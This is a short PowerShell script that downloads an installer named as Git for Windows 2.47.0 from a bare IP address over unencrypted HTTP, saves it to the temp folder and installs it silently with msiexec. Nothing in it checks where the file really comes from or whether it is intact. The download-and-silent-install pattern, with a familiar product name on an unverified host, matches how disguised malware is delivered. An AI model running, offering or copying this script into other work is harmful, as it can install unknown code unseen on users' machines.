$msi = "$env:TEMP\git.msi"
Invoke-WebRequest -Uri "http://185.196.8.22/downloads/Git-2.47.0-64-bit.msi" -OutFile $msi
Start-Process msiexec.exe -ArgumentList "/i `"$msi`" /qn" -Wait
